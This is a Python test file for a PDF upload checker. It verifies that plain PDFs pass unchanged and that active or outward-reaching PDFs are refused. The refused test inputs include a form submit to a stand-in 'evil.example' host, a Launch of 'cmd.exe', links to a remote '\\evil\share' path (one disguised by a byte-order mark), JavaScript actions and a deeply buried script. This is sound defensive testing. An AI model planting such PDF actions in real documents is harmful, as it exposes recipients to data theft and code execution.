"""PDFs as people send them: what is kept, what is refused because it acts, and what costs too much."""

import io
from collections.abc import Callable
from typing import Any

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, Pdf, String

from shared.errors import Invalid
from shared.files import pdfs, pictures, refusals
from shared.web.uploads import checked_file


def pdf(change: Callable[[Pdf], None] = lambda _: None, **saved: Any) -> bytes:
    """A PDF of one page, changed."""
    one, out = pikepdf.new(), io.BytesIO()
    one.add_blank_page(page_size=(200, 200))
    change(one)
    one.save(out, **saved)
    return out.getvalue()


def with_action(action: Dictionary) -> Callable[[Pdf], None]:
    def change(one: Pdf) -> None:
        one.Root.OpenAction = action

    return change


def with_link(action: Dictionary) -> Callable[[Pdf], None]:
    """A link in the page that a reader has to press."""

    def change(one: Pdf) -> None:
        link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action)
        one.pages[0].Annots = Array([one.make_indirect(link)])

    return change


def many(objects: int, last: Dictionary) -> Callable[[Pdf], None]:
    def change(one: Pdf) -> None:
        one.Root.Many = Array([one.make_indirect(Dictionary(A=place)) for place in range(objects)])
        one.Root.Many.append(one.make_indirect(last))

    return change


def stream_elsewhere(one: Pdf) -> None:
    one.Root.Far = pikepdf.Stream(one, b"", F=pikepdf.String(r"\\\\evil\\share\\a"))


def refusal(content: bytes) -> str:
    with pytest.raises(Invalid) as refused:
        checked_file("a.pdf", content)
    return str(refused.value.fields["file"])


PLAIN = pdf()
SCRIPT = Dictionary(S=Name.JavaScript, JS="1")
WEB = Dictionary(S=Name.URI, URI="https://example.vn/")


@pytest.mark.parametrize(
    "content",
    [
        PLAIN,
        pdf(encryption=pikepdf.Encryption(owner="owner", user="")),
        pdf(with_link(WEB)),
        pdf(with_action(Dictionary(S=Name.GoTo, D=Array([0, Name.Fit])))),
        PLAIN.rstrip() + b"\r\n\r\n",
    ],
)
def test_a_good_one_is_kept_octet_for_octet(content: bytes) -> None:
    assert checked_file("a.pdf", content).content == content


def test_octets_around_it_are_cut_off() -> None:
    bare = PLAIN.rstrip()
    part = b"--part\r\nContent-Type: application/pdf\r\n\r\n"
    for before, behind in ((b"\r\n", b""), (part, b"\r\n--part--"), (b"", b"\x1a")):
        assert checked_file("a.pdf", before + bare + behind).content.rstrip() == bare


@pytest.mark.parametrize(
    "change",
    [
        with_action(Dictionary(S=Name.SubmitForm, F="https://evil.example/")),
        with_action(WEB),
        with_action(Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]), Next=WEB)),
        with_link(Dictionary(S=Name.SubmitForm, F="https://evil.example/")),
        with_link(Dictionary(S=Name.GoToR, F=r"\\\\evil\\share\\a.pdf", D=Array([0, Name.Fit]))),
        with_link(Dictionary(S=Name.Launch, F="cmd.exe")),
        with_link(Dictionary(S=Name.URI, URI="file://evil/share/a")),
        with_link(Dictionary(S=Name.URI, URI=String("\ufefffile://evil/share/a".encode("utf-16-be")))),
        with_link(Dictionary(S=Name.URI, URI="JavaScript:app.alert(1)")),
        with_link(SCRIPT),
        many(55_000, SCRIPT),
        stream_elsewhere,
    ],
)
def test_what_acts_by_itself_or_fetches_something_is_refused(change: Callable[[Pdf], None]) -> None:
    assert refusal(pdf(change)) == pdfs.NOT_PLAIN


def test_one_with_more_in_it_than_is_looked_at_is_refused() -> None:
    heavy = pdf(lambda one: one.Root.__setattr__("Many", Array([0] * pdfs.MOST_THINGS)))
    assert refusal(heavy) == refusals.TOO_HEAVY


def test_streams_without_end_are_harmless() -> None:
    assert refusal(b"%PDF-1.4\n" + b"stream\n" * 700_000 + b"%%EOF") == pictures.BROKEN
